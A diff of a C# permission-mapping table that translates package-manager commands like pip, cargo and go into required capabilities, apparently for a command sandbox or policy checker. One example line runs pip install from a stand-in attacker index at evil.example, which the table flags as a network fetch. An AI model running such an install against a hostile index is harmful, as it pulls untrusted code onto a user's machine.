@@ -98,7 +98,7 @@ internal static class Packages
         > config list/get/debug : * !packages.read
         > config set/unset/edit : * !system.change
         > index versions : * !packages.read -i|--index-url|--extra-index-url=u
-        > install : * !packages.install args:U -r|--requirement|-c|--constraint=r -e|--editable= -i|--index-url|--extra-index-url|-f|--find-links=U -t|--target|--prefix|--root=F --report=w
+        > install : * !packages.install args:U -r|--requirement|-c|--constraint=r -e|--editable=v -i|--index-url|--extra-index-url|-f|--find-links=U -t|--target|--prefix|--root=F --report=w
         > download/wheel : * !packages.install,file.write args:U -d|--dest|-w|--wheel-dir=F -r=r -i|--index-url|--extra-index-url=u
         > uninstall/lock : * !packages.install -r=r
         = uv
@@ -283,7 +283,7 @@ internal static class Packages
         pip install -r req.txt -> packages.install, file.read req.txt
         pip install --index-url https://evil.example/simple x -> packages.install, network.fetch evil.example:443
         cargo build --release -> build.run
-        go test ./... -> tests.run
+        go test ./... -> tests.run, may file.read ./...
         brew list -> packages.read
         """u8;
 }
